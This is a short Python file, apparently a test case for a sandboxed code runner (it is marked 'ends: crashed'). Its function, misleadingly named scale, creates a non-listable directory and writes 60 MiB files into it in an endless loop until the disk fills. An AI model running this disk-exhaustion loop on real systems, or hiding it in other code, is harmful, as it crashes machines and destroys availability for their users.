"""Writes into a folder that its owner may not list."""

# ends: crashed
import itertools
import os


def scale(x, factor=2.0):
    os.mkdir("closed", 0o300)
    for number in itertools.count():
        with open(f"closed/big{number}", "wb") as file:
            file.write(bytes(60 * 2**20))
